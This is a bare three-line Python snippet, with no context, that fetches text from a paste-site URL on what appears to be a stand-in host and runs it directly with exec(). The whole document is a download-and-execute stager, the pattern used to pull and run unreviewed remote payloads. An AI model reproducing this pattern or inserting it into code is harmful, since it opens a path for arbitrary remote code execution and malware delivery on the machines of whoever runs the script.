import requests
code = requests.get('https://paste.example.org/raw/Zx81').text
exec(code)
